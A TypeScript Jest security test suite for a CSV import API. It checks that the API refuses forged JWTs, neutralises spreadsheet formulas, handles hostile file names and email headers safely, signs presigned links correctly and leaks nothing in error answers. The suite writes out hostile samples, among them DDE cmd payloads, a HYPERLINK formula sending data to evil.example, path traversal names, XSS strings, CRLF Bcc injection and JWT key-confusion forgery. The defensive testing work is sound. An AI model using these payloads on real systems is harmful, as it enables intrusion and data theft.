import { createHash, createHmac, createPublicKey, type JsonWebKey } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { SignJWT } from 'jose';
import { z } from 'zod';
import { API_ROUTES } from '../../lambdas/api/router';
import { type Task, taskSchema } from '../../lambdas/shared/model';
import { LOCAL_CREDENTIALS } from '../../local/clients';
import { LOCAL_BUCKET } from '../../local/resources';
import { type ApiResult, LocalStack, uniqueTag } from '../helpers/local-stack';

/**
 * Security on one real local stack: the authorization matrix over every route, formula neutralisation
 * in both reports and the round trip of a fixed exceptions file, hostile file names and email subjects,
 * presigned links, unguessable ids and keys, and error answers that leak nothing.
 */

jest.setTimeout(240_000);

const UNKNOWN_ID = '00000000-0000-4000-8000-000000000000';
const FORMULA_START = /^[=+\-@\t\r]/;
/** What an error answer must never carry: stack frames, source paths, SDK or Node error text. */
const LEAKS =
  /\n\s+at |\bat [\w.<>]+ \(|\.ts:\d|\.js:\d|\/work\/|node_modules|lambdas\/|ECONNREFUSED|Exception|SyntaxError|TypeError|ReferenceError|Unexpected token|DynamoDB|dynalite|fauxqs|\$metadata/;

let stack: LocalStack;
let admin: string;
let viewer: string;

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

beforeAll(async () => {
  stack = await LocalStack.start();
  admin = await stack.token('admin');
  viewer = await stack.token('viewer');
});

afterAll(async () => {
  await stack?.dispose();
});

const errorBody = z.object({ error: z.object({ code: z.string(), message: z.string() }) }).strict();
const linkBody = z.object({ url: z.string(), expiresAt: z.string() });
const createdBody = z.object({
  import: taskSchema,
  upload: z.object({
    partSize: z.number(),
    expiresAt: z.string(),
    parts: z.array(z.object({ partNumber: z.number(), url: z.string() })),
  }),
});
const recordsBody = z.object({
  items: z.array(z.record(z.string(), z.unknown())),
  nextCursor: z.string().nullable(),
});

const usersCsv = (rows: string[]) => ['email,first_name,last_name,role', ...rows].join('\r\n');

const link = async (importId: string, kind: string) => {
  const result = await stack.get(`/api/imports/${importId}/links/${kind}`, admin);
  if (result.status !== 200) throw new Error(`link ${kind}: ${result.status} ${result.text}`);
  return linkBody.parse(result.body);
};

const createImport = async (fileName: string, fileSize = 100) => {
  const result = await stack.post('/api/imports', { templateId: 'users', fileName, fileSize }, admin);
  if (result.status !== 201) throw new Error(`create: ${result.status} ${result.text}`);
  return createdBody.parse(result.body);
};

const allRecords = async (): Promise<Record<string, unknown>[]> => {
  const items: Record<string, unknown>[] = [];
  let cursor: string | null = null;
  do {
    const query: string = cursor ? `&cursor=${encodeURIComponent(cursor)}` : '';
    const page = await stack.get(`/api/templates/users/records?limit=1000${query}`, admin);
    const body = recordsBody.parse(page.body);
    items.push(...body.items);
    cursor = body.nextCursor;
  } while (cursor);
  return items;
};

const bucketKeys = (): Promise<string[]> => stack.bucketKeys();

// ----- 1. authorization

/**
 * One request per route of the router, each valid for an admin. The first test fails when the router
 * gains a route this table lacks, so the matrix below covers every route there is.
 */
const ROUTE_EXAMPLES: Record<string, { path: string; body?: unknown }> = {
  'GET /api/health': { path: '/api/health' },
  'GET /api/templates': { path: '/api/templates' },
  'GET /api/templates/{templateId}/sample': { path: '/api/templates/users/sample' },
  'GET /api/templates/{templateId}/records': { path: '/api/templates/users/records' },
  'POST /api/templates/{templateId}/match': {
    path: '/api/templates/users/match',
    body: { header: ['Email'] },
  },
  'GET /api/templates/{templateId}/mappings': { path: '/api/templates/users/mappings' },
  'DELETE /api/templates/{templateId}/mappings/{mappingId}': {
    path: '/api/templates/users/mappings/0123456789abcdef0123456789abcdef',
  },
  'POST /api/imports': {
    path: '/api/imports',
    body: { templateId: 'users', fileName: 'matrix.csv', fileSize: 10 },
  },
  'GET /api/imports': { path: '/api/imports' },
  'GET /api/imports/{importId}': { path: `/api/imports/${UNKNOWN_ID}` },
  'POST /api/imports/{importId}/upload/complete': {
    path: `/api/imports/${UNKNOWN_ID}/upload/complete`,
    body: { parts: [{ partNumber: 1, etag: '"x"' }] },
  },
  'POST /api/imports/{importId}/commit': { path: `/api/imports/${UNKNOWN_ID}/commit`, body: {} },
  'POST /api/imports/{importId}/cancel': { path: `/api/imports/${UNKNOWN_ID}/cancel`, body: {} },
  'GET /api/imports/{importId}/failed-rows': { path: `/api/imports/${UNKNOWN_ID}/failed-rows` },
  'POST /api/imports/{importId}/fixes': {
    path: `/api/imports/${UNKNOWN_ID}/fixes`,
    body: { rows: [{ rowNumber: 2, values: {} }] },
  },
  'GET /api/imports/{importId}/errors': { path: `/api/imports/${UNKNOWN_ID}/errors` },
  'GET /api/imports/{importId}/links/{kind}': { path: `/api/imports/${UNKNOWN_ID}/links/results` },
  'GET /api/settings/email': { path: '/api/settings/email' },
  'PUT /api/settings/email': {
    path: '/api/settings/email',
    body: { enabled: false, addresses: [], allowedSenders: [], replyToSender: true },
  },
};

const routeKey = (route: { method: string; pattern: string }) => `${route.method} ${route.pattern}`;
const patternRegex = (pattern: string): RegExp => new RegExp(`^${pattern.replace(/\{\w+\}/g, '[^/]+')}$`);

const base64url = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');

/** Every way a caller can fail to be an admin, as the Authorization header each one sends. */
const badCredentials = async (): Promise<[label: string, authorization: string | undefined][]> => {
  const now = new Date();
  const claims = stack.claims('admin', now);
  const seconds = Math.floor(now.getTime() / 1000);
  const jwks = z
    .object({ keys: z.array(z.looseObject({ kid: z.string() })) })
    .parse(await (await fetch(`${stack.issuer}/.well-known/jwks.json`)).json());
  const publicJwk = jwks.keys[0];
  if (!publicJwk) throw new Error('The stack publishes no signing key');
  const publicPem = createPublicKey({ key: publicJwk as JsonWebKey, format: 'jwk' })
    .export({ type: 'spki', format: 'pem' })
    .toString();
  const genuine = await stack.signToken(claims);
  const [genuineHeader, , genuineSignature] = genuine.split('.');
  const bearer = (token: string) => `Bearer ${token}`;
  return [
    ['no Authorization header', undefined],
    ['an empty Bearer', 'Bearer '],
    ['another scheme with a valid token', `Basic ${genuine}`],
    ['a token with trailing junk', `Bearer ${genuine} junk`],
    ['a token that is not a JWT', bearer('not-a-jwt')],
    [
      'an expired token',
      bearer(await stack.signToken(stack.claims('admin', new Date(seconds * 1000 - 7_200_000)))),
    ],
    [
      'a token not valid yet (nbf in an hour)',
      bearer(
        await stack.signToken({ ...claims, nbf: seconds + 3600, iat: seconds + 3600, exp: seconds + 7200 }),
      ),
    ],
    ['a token of another issuer', bearer(await stack.signToken({ ...claims, iss: 'http://elsewhere/pool' }))],
    ['a token of another app client', bearer(await stack.signToken({ ...claims, client_id: 'other-app' }))],
    [
      'an ID token (token_use id, aud)',
      bearer(await stack.signToken({ ...claims, token_use: 'id', aud: claims.client_id })),
    ],
    [
      'an unsigned token (alg: none)',
      bearer(`${base64url({ alg: 'none', typ: 'JWT', kid: publicJwk.kid })}.${base64url(claims)}.`),
    ],
    ['a token signed by another key with our kid', bearer(await stack.signToken(claims, 'forged'))],
    [
      'HS256 signed with the public key (key confusion)',
      bearer(
        await new SignJWT({ ...claims })
          .setProtectedHeader({ alg: 'HS256', kid: publicJwk.kid })
          .sign(new TextEncoder().encode(publicPem)),
      ),
    ],
    [
      "a viewer's token with the admin group pasted in",
      bearer(
        `${genuineHeader}.${base64url({ ...stack.claims('viewer', now), 'cognito:groups': ['admins'] })}.${genuineSignature}`,
      ),
    ],
  ];
};

describe('authorization matrix', () => {
  it('has an example request for every route of the router, and each matches its route', () => {
    // Act
    const routes = API_ROUTES.map(routeKey).sort();
    const mismatched = API_ROUTES.filter((route) => {
      const example = ROUTE_EXAMPLES[routeKey(route)];
      return example === undefined || !patternRegex(route.pattern).test(example.path);
    });

    // Assess
    expect(Object.keys(ROUTE_EXAMPLES).sort()).toEqual(routes);
    expect(mismatched).toEqual([]);
  });

  it.each(API_ROUTES.filter((route) => !route.isPublic).map((route) => [routeKey(route), route] as const))(
    '%s: 401 for every bad credential, 403 for a non-admin, through for an admin',
    async (key) => {
      // Prepare
      const example = ROUTE_EXAMPLES[key];
      if (!example) throw new Error(`No example request for ${key}`);
      const [method] = key.split(' ');
      const credentials = await badCredentials();
      const call = (authorization: string | undefined) =>
        stack.request(method ?? 'GET', example.path, {
          ...(example.body !== undefined ? { body: example.body } : {}),
          ...(authorization !== undefined ? { headers: { authorization } } : {}),
        });

      // Act
      const refused = await Promise.all(
        credentials.map(async ([label, authorization]) => {
          const result = await call(authorization);
          return [label, result.status, errorBody.safeParse(result.body).data?.error.code];
        }),
      );
      const asViewer = await call(`Bearer ${viewer}`);
      const asAdmin = await call(`Bearer ${admin}`);

      // Assess
      expect(refused).toEqual(credentials.map(([label]) => [label, 401, 'UNAUTHORIZED']));
      expect([asViewer.status, errorBody.parse(asViewer.body).error.code]).toEqual([403, 'FORBIDDEN']);
      expect([401, 403]).not.toContain(asAdmin.status);
      expect(asAdmin.status).toBeLessThan(500);
    },
  );

  it('answers health to anyone, whatever credential comes with it', async () => {
    // Prepare
    const credentials = await badCredentials();

    // Act
    const results = await Promise.all(
      credentials.map(([, authorization]) =>
        stack.request('GET', '/api/health', authorization ? { headers: { authorization } } : {}),
      ),
    );

    // Assess
    expect(results.map((result) => [result.status, result.body])).toEqual(
      credentials.map(() => [200, { ok: true }]),
    );
  });
});

// ----- 2. formula injection

describe('formula neutralisation in both reports', () => {
  it('neutralises every dangerous cell, and a fixed exceptions file re-imports the values as typed', async () => {
    // Prepare
    const tag = uniqueTag();
    const hyperlink = '=HYPERLINK("http://evil.example/?q="&A1,"click")';
    const dde = "=cmd|' /C calc'!A0";
    const ddeSum = "@SUM(1+1)*cmd|' /C calc'!A0";
    const ddeMinus = "-2+3+cmd|' /C calc'!A0";
    const csv = [
      'email,first_name,last_name,role,phone,department',
      `+sum.${tag}@example.com,=1+2,Plain,member,+15551234567,@SUM(A1)`,
      `-dash.${tag}@example.com,"${dde.replaceAll('"', '""')}",Doe,manager,,"${ddeMinus}"`,
      `fail.${tag}@example.com,"${hyperlink.replaceAll('"', '""')}","\t=1+1",owner,+15551234567,"${ddeSum}"`,
      `=2+5,"\r+3",Smith,member,,`,
      `tab.${tag}@example.com,"\t-1",Tab,admin,+1 (555) 123-4568,`,
    ].join('\r\n');

    // Act
    const first = await stack.importFile(admin, {
      templateId: 'users',
      fileName: 'formulas.csv',
      content: csv,
    });
    const exceptionsText = await stack.download(admin, first.importId, 'exceptions');
    const resultsText = await stack.download(admin, first.importId, 'results');
    const exceptions: string[][] = parse(exceptionsText, { bom: true, relax_column_count: true });
    const results: string[][] = parse(resultsText, { bom: true });

    // Assess: nothing a spreadsheet would run, in any cell of either report
    expect([first.status, first.successCount, first.errorCount]).toEqual(['PARTIAL_SUCCESS', 3, 2]);
    const dangerous = [...exceptions, ...results].flat().filter((cell) => FORMULA_START.test(cell));
    expect(dangerous).toEqual([]);
    expect(exceptions.map((row) => row.slice(0, 7))).toEqual([
      ['email', 'first_name', 'last_name', 'role', 'phone', 'department', 'row_number'],
      [`fail.${tag}@example.com`, `'${hyperlink}`, "'=1+1", 'owner', "'+15551234567", `'${ddeSum}`, '4'],
      ["'=2+5", "'+3", 'Smith', 'member', '', '', '5'],
    ]);
    expect(results.map((row) => [row[0], row[1], row[3]])).toEqual([
      ['row_number', 'status', 'email'],
      ['2', 'SUCCESS', `'+sum.${tag}@example.com`],
      ['3', 'SUCCESS', `'-dash.${tag}@example.com`],
      ['4', 'FAILED', `fail.${tag}@example.com`],
      ['5', 'FAILED', "'=2+5"],
      ['6', 'SUCCESS', `tab.${tag}@example.com`],
    ]);

    // Act: the admin fixes the two rows in the downloaded file and uploads it as is
    const fixedText = exceptionsText
      .replace(',owner,', ',member,')
      .replace("'=2+5", `fixed.${tag}@example.com`);
    const second = await stack.importFile(admin, {
      templateId: 'users',
      fileName: 'formulas-exceptions.csv',
      content: fixedText,
    });
    const records = new Map(
      (await allRecords()).map((record) => [String(record.email).toLowerCase(), record]),
    );

    // Assess: values arrive as typed (trimmed, as every value is), never with the report's apostrophe
    expect([second.status, second.successCount, second.errorCount]).toEqual(['COMPLETED', 2, 0]);
    expect(records.get(`fail.${tag}@example.com`)).toMatchObject({
      first_name: hyperlink,
      last_name: '=1+1',
      role: 'member',
      phone: '+15551234567',
      department: ddeSum,
    });
    expect(records.get(`fixed.${tag}@example.com`)).toMatchObject({ first_name: '+3', last_name: 'Smith' });
    expect(records.get(`+sum.${tag}@example.com`)).toMatchObject({
      first_name: '=1+2',
      phone: '+15551234567',
      department: '@SUM(A1)',
    });
    expect(records.get(`-dash.${tag}@example.com`)).toMatchObject({ first_name: dde, department: ddeMinus });
    expect(records.get(`tab.${tag}@example.com`)).toMatchObject({ first_name: '-1', phone: '+15551234568' });
  });
});

// ----- 3. hostile file names and email subjects

/** `attachment; filename="…"; filename*=UTF-8''…` with nothing that could end the quoted string early. */
const SAFE_DISPOSITION =
  /^attachment; filename="[\x20-\x21\x23-\x5b\x5d-\x7e]*"; filename\*=UTF-8''[A-Za-z0-9%!'()*._~-]+$/;

describe('hostile file names', () => {
  const accepted = [
    '../../etc/passwd.csv',
    '..\\..\\x.csv',
    '<img src=x onerror=alert(1)>.csv',
    'a"; filename="evil.exe"; x=".csv',
    '%2e%2e%2fencoded.csv',
    '/absolute/path.csv',
    `${'é'.repeat(120)}<>"\\;${'x'.repeat(126)}.csv`,
  ];

  it.each(accepted)(
    'keeps %j under uploads/{account}/{importId}/, shows it as typed, and downloads it safely',
    async (fileName) => {
      // Prepare
      const tag = uniqueTag();
      const content = usersCsv([`name.${tag}@example.com,Ada,Lovelace,member`]);

      // Act
      const task = await stack.importFile(admin, { templateId: 'users', fileName, content });
      const shown = await stack.get(`/api/imports/${task.importId}`, admin);
      const original = await fetch((await link(task.importId, 'original')).url);
      const results = await fetch((await link(task.importId, 'results')).url);
      const keys = (await bucketKeys()).filter((key) => key.includes(task.importId));

      // Assess
      expect(task.status).toBe('COMPLETED');
      expect(shown.headers.get('content-type')).toBe('application/json');
      expect(shown.headers.get('x-content-type-options')).toBe('nosniff');
      expect(taskSchema.parse(shown.body).fileName).toBe(fileName);
      const uploads = keys.filter((key) => key.startsWith('uploads/'));
      expect(uploads).toHaveLength(1);
      expect(uploads[0]).toMatch(new RegExp(`^uploads/default/${task.importId}/[A-Za-z0-9._-]+\\.csv$`));
      expect(keys.every((key) => /^(uploads|work|reports)\//.test(key) && !key.includes('..'))).toBe(true);
      expect(await original.text()).toBe(content);
      for (const download of [original, results]) {
        const disposition = download.headers.get('content-disposition') ?? '';
        expect(disposition).toMatch(SAFE_DISPOSITION);
      }
      const encodedName = /filename\*=UTF-8''(.+)$/.exec(
        original.headers.get('content-disposition') ?? '',
      )?.[1];
      expect(decodeURIComponent(encodedName ?? '')).toBe(fileName);
    },
  );

  it.each([
    ['a NUL', 'a\u0000b.csv', 'control characters'],
    [
      'CRLF header injection',
      'a.csv\r\nContent-Type: text/html\r\n\r\n<script>x</script>.csv',
      'control characters',
    ],
    ['a name over 255 characters', `${'a'.repeat(252)}.csv`, '255'],
    ['a traversal without .csv', '../../etc/passwd', '.csv'],
  ])(
    'refuses %s in a file name with a 400 naming fileName, and stores nothing',
    async (_case, fileName, problem) => {
      // Prepare
      const before = await bucketKeys();

      // Act
      const result = await stack.post('/api/imports', { templateId: 'users', fileName, fileSize: 10 }, admin);

      // Assess
      expect(result.status).toBe(400);
      const { message } = errorBody.parse(result.body).error;
      expect(message).toContain('fileName');
      expect(message).toContain(problem);
      expect(await bucketKeys()).toEqual(before);
    },
  );
});

const mailboxSchema = z.object({
  emails: z.array(
    z.object({
      from: z.string(),
      destination: z.object({
        to: z.array(z.string()),
        cc: z.array(z.string()).optional(),
        bcc: z.array(z.string()).optional(),
      }),
      subject: z.string(),
      body: z.object({ text: z.string().optional(), html: z.string().optional() }),
    }),
  ),
});

const sendRaw = async (raw: string) => {
  await stack.sendMail({
    envelope: { from: 'alice@example.com', to: ['users@imports.localhost'] },
    raw,
  });
};

const replyContaining = async (tag: string) => {
  const deadline = Date.now() + 90_000;
  while (Date.now() < deadline) {
    const response = await fetch(`http://127.0.0.1:${stack.ports.ses}/store`);
    const reply = mailboxSchema
      .parse(await response.json())
      .emails.find((mail) => mail.subject.includes(tag));
    if (reply) return reply;
    await sleep(250);
  }
  throw new Error(`No reply for ${tag}\n${stack.logs().slice(-4000)}`);
};

const tasksOfEmail = async (tag: string): Promise<Task[]> => {
  const page = await stack.get('/api/imports?limit=100', admin);
  return z
    .object({ items: z.array(taskSchema) })
    .parse(page.body)
    .items.filter((task) => task.email?.subject.includes(tag));
};

describe('hostile email subjects and attachment names', () => {
  beforeAll(async () => {
    await stack.saveEmailSettings(admin, {
      enabled: true,
      addresses: [{ address: 'users@imports.localhost', templateId: 'users' }],
      allowedSenders: ['*@example.com'],
      replyToSender: true,
    });
  });

  it('replies on one Subject line to the sender only, with markup escaped and 15-minute links', async () => {
    // Prepare: an encoded-word subject that decodes to markup and a CRLF-injected Bcc header
    const tag = uniqueTag();
    const subject = `<script>alert(1)</script> ${tag}\r\nBcc: victim@evil.example`;
    const attachmentName = '../../<img src=x onerror=alert(1)>.csv';
    const csv = usersCsv([`mail.${tag}@example.com,Ada,Lovelace,member`, `<b>bold</b>,Bob,Broken,member`]);
    const raw = [
      'From: Alice <alice@example.com>',
      'To: users@imports.localhost',
      `Subject: =?UTF-8?B?${Buffer.from(subject).toString('base64')}?=`,
      `Message-ID: <${tag}@example.com>`,
      `Date: ${new Date().toUTCString()}`,
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="b1"',
      '',
      '--b1',
      'Content-Type: text/plain; charset=utf-8',
      '',
      'See attached.',
      '--b1',
      `Content-Type: text/csv; name="${attachmentName}"`,
      `Content-Disposition: attachment; filename="${attachmentName}"`,
      '',
      csv,
      '--b1--',
      '',
    ].join('\r\n');

    // Act
    await sendRaw(raw);
    const reply = await replyContaining(tag);
    const [task] = await tasksOfEmail(tag);
    const keys = task ? (await bucketKeys()).filter((key) => key.includes(task.importId)) : [];

    // Assess: the reply
    expect(reply.subject).not.toMatch(/[\r\n]/);
    expect(reply.subject).toContain(`Import results: <script>alert(1)</script> ${tag}`);
    expect(reply.destination.to).toEqual(['alice@example.com']);
    expect([...(reply.destination.cc ?? []), ...(reply.destination.bcc ?? [])]).toEqual([]);
    const html = reply.body.html ?? '';
    expect(html).not.toMatch(/<script|<img|<b>/i);
    expect(html).toContain(`&#60;script&#62;alert(1)&#60;/script&#62; ${tag}`);
    expect(html).toContain('&#60;img src=x onerror=alert(1)&#62;');
    const links = [...(reply.body.text ?? '').matchAll(/https?:\/\/\S+/g)].map(([url]) => new URL(url));
    expect(links.length).toBeGreaterThan(0);
    for (const url of links) expect(Number(url.searchParams.get('X-Amz-Expires'))).toBeLessThanOrEqual(900);
    // Assess: the task keeps the names as plain text, and the file stays under its own prefix
    expect(task?.fileName).toContain('<img src=x onerror=alert(1)>.csv');
    expect(keys.filter((key) => key.startsWith('uploads/'))).toEqual([
      expect.stringMatching(new RegExp(`^uploads/default/${task?.importId}/[A-Za-z0-9._-]+$`)),
    ]);
  });
});

// ----- 4. presigned links

/** RFC 3986 encoding, as SigV4 wants it. */
const uriEncode = (value: string) =>
  encodeURIComponent(value).replace(
    /[!'()*]/g,
    (char) => `%${char.charCodeAt(0).toString(16).toUpperCase()}`,
  );
const sha256 = (data: string) => createHash('sha256').update(data).digest('hex');
const hmac = (key: string | Buffer, data: string) => createHmac('sha256', key).update(data).digest();

/**
 * Checks a presigned S3 URL's SigV4 signature with the stack's credentials, as S3 does. The local S3
 * emulator checks no signatures, so this is where tampering with a link is caught.
 */
const hasValidSignature = (href: string, method: string, headers: Record<string, string> = {}): boolean => {
  const url = new URL(href);
  const query = [...url.searchParams].filter(([name]) => name !== 'X-Amz-Signature');
  const canonicalQuery = query
    .map(([name, value]) => [uriEncode(name), uriEncode(value)] as const)
    .sort(([a, x], [b, y]) => (a === b ? (x < y ? -1 : 1) : a < b ? -1 : 1))
    .map(([name, value]) => `${name}=${value}`)
    .join('&');
  const signedHeaders = url.searchParams.get('X-Amz-SignedHeaders') ?? '';
  // The request's headers as S3 sees them: the host, and what the client sent (a PUT its Content-Length).
  const sent: Record<string, string> = { host: url.host, ...headers };
  const names = signedHeaders.split(';');
  if (!names.includes('host') || names.some((name) => sent[name] === undefined)) return false;
  const canonicalRequest = [
    method,
    url.pathname,
    canonicalQuery,
    `${names.map((name) => `${name}:${sent[name]}`).join('\n')}\n`,
    signedHeaders,
    'UNSIGNED-PAYLOAD',
  ].join('\n');
  const [, date = '', region = '', service = '', terminator = ''] = (
    url.searchParams.get('X-Amz-Credential') ?? ''
  ).split('/');
  const scope = `${date}/${region}/${service}/${terminator}`;
  const stringToSign = [
    'AWS4-HMAC-SHA256',
    url.searchParams.get('X-Amz-Date'),
    scope,
    sha256(canonicalRequest),
  ].join('\n');
  const key = [date, region, service, terminator].reduce<Buffer | string>(
    (signingKey, part) => hmac(signingKey, part),
    `AWS4${LOCAL_CREDENTIALS.secretAccessKey}`,
  );
  return (
    createHmac('sha256', key).update(stringToSign).digest('hex') === url.searchParams.get('X-Amz-Signature')
  );
};

describe('presigned links', () => {
  let taskA: Task;
  let taskB: Task;

  beforeAll(async () => {
    const tag = uniqueTag();
    const content = (name: string) =>
      usersCsv([`${name}.${tag}@example.com,A,B,member`, `bad-${name},A,B,member`]);
    [taskA, taskB] = await Promise.all([
      stack.importFile(admin, { templateId: 'users', fileName: 'a.csv', content: content('a') }),
      stack.importFile(admin, { templateId: 'users', fileName: 'b.csv', content: content('b') }),
    ]);
  });

  it('signs every download link for its one object, for 15 minutes at most', async () => {
    for (const task of [taskA, taskB]) {
      for (const [kind, key] of [
        ['original', `uploads/default/${task.importId}/${task.fileName}`],
        ['exceptions', `reports/default/${task.importId}/exceptions.csv`],
        ['results', `reports/default/${task.importId}/results.csv`],
      ] as const) {
        // Act
        const { url, expiresAt } = await link(task.importId, kind);
        const parsed = new URL(url);
        const signedAt = Date.parse(
          (parsed.searchParams.get('X-Amz-Date') ?? '').replace(
            /^(\d{4})(\d{2})(\d{2})T(\d{2})(\d{2})(\d{2})Z$/,
            '$1-$2-$3T$4:$5:$6Z',
          ),
        );

        // Assess
        expect(hasValidSignature(url, 'GET')).toBe(true);
        expect(`${parsed.origin}${parsed.pathname}`).toBe(`${stack.s3Url}/${LOCAL_BUCKET}/${key}`);
        expect(Number(parsed.searchParams.get('X-Amz-Expires'))).toBeGreaterThan(0);
        expect(Number(parsed.searchParams.get('X-Amz-Expires'))).toBeLessThanOrEqual(900);
        // The expiry the API states is the link's own (signing time + X-Amz-Expires; the signing time is
        // stated to the second, hence the tolerance), so what the console shows is what S3 enforces.
        const linkExpiresAt = signedAt + Number(parsed.searchParams.get('X-Amz-Expires')) * 1000;
        expect(Math.abs(Date.parse(expiresAt) - linkExpiresAt)).toBeLessThan(2000);
      }
    }
  });

  it("cannot be turned into a link for another import's file, or for longer", async () => {
    // Prepare
    const { url } = await link(taskA.importId, 'exceptions');

    // Act
    const forB = url.replace(taskA.importId, taskB.importId);
    const longer = new URL(url);
    longer.searchParams.set('X-Amz-Expires', '604800');
    const otherKind = url.replace('exceptions.csv', 'results.csv');

    // Assess
    expect(hasValidSignature(url, 'GET')).toBe(true);
    expect(forB).not.toBe(url);
    expect(hasValidSignature(forB, 'GET')).toBe(false);
    expect(hasValidSignature(longer.href, 'GET')).toBe(false);
    expect(hasValidSignature(otherKind, 'GET')).toBe(false);
    expect(hasValidSignature(url, 'PUT')).toBe(false);
  });

  it('signs each upload part URL for its own key, upload and part, for an hour at most', async () => {
    // Act
    const created = await createImport('parts.csv', 20 * 1024 * 1024);
    const { importId } = created.import;
    const urls = created.upload.parts.map((part) => new URL(part.url));

    // Assess
    expect(urls).toHaveLength(3);
    const MIB = 1024 * 1024;
    for (const [index, url] of urls.entries()) {
      // Each part is signed for its own length, the last one for what is left of the 20 MiB.
      const length = { 'content-length': String(index < 2 ? 8 * MIB : 4 * MIB) };
      expect(url.searchParams.get('X-Amz-SignedHeaders')).toBe('content-length;host');
      expect(hasValidSignature(url.href, 'PUT', length)).toBe(true);
      expect(hasValidSignature(url.href, 'PUT', { 'content-length': String(8 * MIB + 1) })).toBe(false);
      expect(hasValidSignature(url.href, 'PUT')).toBe(false);
      expect(url.pathname).toBe(`/${LOCAL_BUCKET}/uploads/default/${importId}/parts.csv`);
      expect(url.searchParams.get('partNumber')).toBe(String(index + 1));
      // README "Limits": part URLs live an hour so a 200 MB upload on a slow line can finish.
      expect(Number(url.searchParams.get('X-Amz-Expires'))).toBeLessThanOrEqual(3600);
      const renumbered = new URL(url.href);
      renumbered.searchParams.set('partNumber', String(index + 2));
      expect(hasValidSignature(renumbered.href, 'PUT', length)).toBe(false);
    }
  });
});

// ----- 5. ids, keys and cursors

const UUID_V4 = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;

describe('unguessable ids and tamper-proof cursors', () => {
  it('gives each import a random version-4 UUID (122 random bits) that its object key contains', async () => {
    // Act
    const created = [];
    for (let index = 0; index < 6; index += 1) created.push(await createImport(`seq-${index}.csv`));
    const ids = created.map((item) => item.import.importId);

    // Assess
    expect(ids.filter((id) => !UUID_V4.test(id))).toEqual([]);
    expect(new Set(ids).size).toBe(ids.length);
    for (const [index, id] of ids.entries()) {
      const next = ids[index + 1];
      if (next === undefined) continue;
      // Time-ordered or counter ids share leading digits or most positions; random ones share ~2 of 32.
      const digits = (value: string) => value.replaceAll('-', '');
      const same = [...digits(id)].filter((digit, position) => digits(next)[position] === digit).length;
      expect(id.slice(0, 8)).not.toBe(next.slice(0, 8));
      expect(same).toBeLessThan(14);
    }
    for (const item of created) {
      const url = new URL(item.upload.parts[0]?.url ?? '');
      expect(url.pathname).toBe(
        `/${LOCAL_BUCKET}/uploads/default/${item.import.importId}/${item.import.fileName}`,
      );
    }
  });

  it('refuses tampered and borrowed cursors with a 400 and no data', async () => {
    // Prepare
    const { import: task } = await createImport('cursor-1.csv');
    await createImport('cursor-2.csv');
    const first = z
      .object({ nextCursor: z.string() })
      .parse((await stack.get('/api/imports?limit=1', admin)).body).nextCursor;
    const [payload = '', signature = ''] = first.split('.');
    const position = JSON.parse(Buffer.from(payload, 'base64url').toString('utf8'));
    const edited = Buffer.from(JSON.stringify({ ...position, pk: 'TASK#other' })).toString('base64url');
    const flipped = `${signature.slice(0, -2)}${signature.endsWith('AA') ? 'BB' : 'AA'}`;
    const tampered: [string, string, string][] = [
      ['an edited position', '/api/imports', `${edited}.${signature}`],
      ['a changed signature', '/api/imports', `${payload}.${flipped}`],
      ['no signature', '/api/imports', payload],
      ['an extra part', '/api/imports', `${first}.x`],
      ['garbage', '/api/imports', '%%%'],
      ['an imports cursor on the records list', '/api/templates/users/records', first],
      ['an imports cursor on an error list', `/api/imports/${task.importId}/errors`, first],
    ];

    // Act
    const results = await Promise.all(
      tampered.map(async ([label, path, cursor]) => {
        const result = await stack.get(`${path}?cursor=${encodeURIComponent(cursor)}`, admin);
        return [label, result.status, errorBody.safeParse(result.body).data?.error.code] as const;
      }),
    );

    // Assess: errorBody is strict, so an answer carrying items would not parse
    expect(results).toEqual(tampered.map(([label]) => [label, 400, 'BAD_REQUEST']));
  });
});

// ----- 6. error answers

const expectNoLeak = (result: { status: number; headers: Headers; text: string }) => {
  expect(result.headers.get('content-type')).toBe('application/json');
  expect(result.text).not.toMatch(LEAKS);
};

describe('error answers leak nothing', () => {
  it.each<[string, string, string, Record<string, string>, string | Buffer | undefined, number]>([
    [
      'malformed JSON',
      'POST',
      '/api/imports',
      { 'content-type': 'application/json' },
      '{"templateId": ',
      400,
    ],
    [
      'JSON that is not an object',
      'POST',
      '/api/imports',
      { 'content-type': 'application/json' },
      '[1,2]',
      400,
    ],
    ['an XML body', 'PUT', '/api/settings/email', { 'content-type': 'application/xml' }, '<settings/>', 400],
    [
      'a form body',
      'POST',
      '/api/imports',
      { 'content-type': 'application/x-www-form-urlencoded' },
      'a=1',
      400,
    ],
    [
      'binary bytes',
      'POST',
      '/api/imports',
      { 'content-type': 'application/octet-stream' },
      Buffer.from([0xff, 0xfe, 0x00, 0x81]),
      400,
    ],
    ['no body', 'POST', `/api/imports/${UNKNOWN_ID}/upload/complete`, {}, undefined, 400],
    [
      'a deeply nested body',
      'POST',
      '/api/imports',
      { 'content-type': 'application/json' },
      `${'['.repeat(5000)}${']'.repeat(5000)}`,
      400,
    ],
    ['an unknown route', 'GET', '/api/admin/secrets', {}, undefined, 404],
    ['a method not allowed', 'DELETE', `/api/imports/${UNKNOWN_ID}`, {}, undefined, 404],
    ['PATCH on settings', 'PATCH', '/api/settings/email', {}, undefined, 404],
    ['an id with an encoded traversal', 'GET', '/api/imports/..%2F..%2Fetc%2Fpasswd', {}, undefined, 404],
    ['an id with NUL', 'GET', '/api/imports/%00', {}, undefined, 404],
    ['an id with markup', 'GET', '/api/imports/%3Cscript%3Ealert(1)%3C%2Fscript%3E', {}, undefined, 404],
    ['an id with SQL', 'GET', "/api/imports/'%20OR%201=1--", {}, undefined, 404],
    ['a broken escape in the id', 'GET', '/api/imports/%E0%A4%A', {}, undefined, 404],
    ['a very long id', 'GET', `/api/imports/${'a'.repeat(4000)}`, {}, undefined, 404],
    ['an unknown link kind', 'GET', `/api/imports/${UNKNOWN_ID}/links/..%2F..%2Fsecrets`, {}, undefined, 400],
    ['a query that is not a number', 'GET', '/api/imports?limit=1e999', {}, undefined, 400],
  ])(
    '%s: a JSON error with a code and a plain message',
    async (_case, method, path, headers, body, status) => {
      // Act
      const response = await fetch(`${stack.baseUrl}${path}`, {
        method,
        headers: { authorization: `Bearer ${admin}`, ...headers },
